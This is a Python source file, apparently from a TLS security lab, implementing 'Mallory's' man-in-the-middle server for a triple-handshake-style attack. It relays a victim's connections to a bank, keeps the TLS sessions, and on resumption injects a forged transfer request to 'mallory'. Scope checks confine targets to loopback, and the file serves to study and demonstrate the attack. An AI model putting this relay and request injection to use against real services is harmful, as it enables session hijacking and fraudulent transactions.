"""Mallory's server: `python -m attacker.triple`, told by standard input what to do.

The first line is an object with the bank's `address` ([host, port]), the name by which it is asked (`host`), and
mallory's own server's `bundle` in PEM. She prints her own port, and then a report for each connection, a line each. She
ends when her standard input does.
"""

import asyncio
import json
import secrets
import sys

from attacker.errors import AttackerError
from attacker.leak.mirror import read_hello
from attacker.position.tcp_relay import listen_at
from attacker.scope import check_loopback, check_target
from attacker.triple.first import join
from attacker.triple.reports import ConnectionReport
from attacker.triple.resumed import ResumedRelay
from lab.address import Address
from lab.printable import say
from lab.process import BadInput, run_part, stop_signal
from lab.tls.bundle import Bundle, parse_bundle
from lab.tls.errors import BundleError, TlsError
from lab.tls.listener import Listener, RationedReader
from lab.tls.sessions import Session
from lab.tls.streams import ConnectionFailed

CONNECTIONS = 16
SECONDS = 10.0
MAX_BYTES = 1 << 16


class Mallory:
    """Her server, with all sessions that alice and the bank can resume."""

    def __init__(self, own: Bundle, bank: Address, host: str) -> None:
        self._own = own
        self._bank = bank
        self._host = host
        self._sessions: dict[bytes, Session] = {}
        self._under_way = 0
        self._idle = asyncio.Event()
        self._idle.set()

    async def done(self) -> None:
        """Waits until every connection has its report."""
        await self._idle.wait()

    async def serve(self, reader: RationedReader, writer: asyncio.StreamWriter) -> None:
        """One connection of alice's, and its report."""
        self._under_way += 1
        self._idle.clear()
        report = ConnectionReport()
        try:
            async with asyncio.timeout(SECONDS):
                hello, received = await read_hello(reader)
                reader.lift_limit()
                if session := self._sessions.get(hello.session_id):
                    relay = ResumedRelay(hello, session, self._request(), report)
                    await relay.carry_out((reader, writer), self._bank)
                else:
                    session = await join(hello, received, (reader, writer), self._bank, self._own, report)
                    self._sessions[session.id] = session
        except ConnectionFailed as error:
            report.fail(error.failed)
        except TimeoutError:
            report.ended = f"not done within {SECONDS:.0f} s"
        except (OSError, TlsError) as error:
            report.ended = str(error) or type(error).__name__
        finally:
            say(report.to_json())
            self._under_way -= 1
            if not self._under_way:
                self._idle.set()

    def _request(self) -> bytes:
        """What mallory wants of the bank. Nobody else knows the number in it."""
        path = f"/private/transfer?to=mallory&amount=100&number={secrets.token_hex(8)}"
        return f"GET {path} HTTP/1.1\r\nHost: {self._host}\r\nConnection: close\r\n\r\n".encode()


async def main() -> int:
    """The part; its exit status."""
    try:
        order = json.loads(await asyncio.to_thread(sys.stdin.readline))
        host, port = order["address"]
        own = parse_bundle(order["bundle"].encode(), None, "mallory's own bundle", None)
        mallory = Mallory(own, check_target(host, port), str(order["host"]))
        listening = listen_at(check_loopback("localhost", 0))
    except (AttackerError, BundleError) as error:
        raise BadInput(str(error)) from None
    except (ValueError, KeyError, TypeError, AttributeError) as error:
        raise BadInput(f"the order on standard input is not readable: {error}") from None
    stop = stop_signal(tether=True)
    listener = Listener(mallory.serve, CONNECTIONS, MAX_BYTES)
    await listener.open(listening)
    say(str(listening.getsockname()[1]))
    await stop.wait()
    await mallory.done()
    await listener.close()
    return 0


if __name__ == "__main__":
    run_part("attacker.triple", main)
